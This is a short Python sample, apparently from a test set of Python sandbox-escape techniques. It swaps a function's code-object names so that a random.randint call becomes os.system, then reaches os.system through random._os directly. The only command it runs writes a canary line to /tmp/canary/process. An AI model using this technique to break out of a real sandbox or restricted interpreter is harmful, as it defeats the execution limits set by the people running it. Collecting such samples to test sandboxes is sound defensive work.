# source: pyjail lore
# effect: process

import random


def template():
    return random.randint("echo code/code_replace_names > /tmp/canary/process")


code = template.__code__
template.__code__ = code.replace(co_names=("random", "_os", "system"), co_code=code.co_code)
try:
    template()
except (AttributeError, TypeError):
    pass
random.__getattribute__("_os").system("echo code/code_replace_names > /tmp/canary/process")
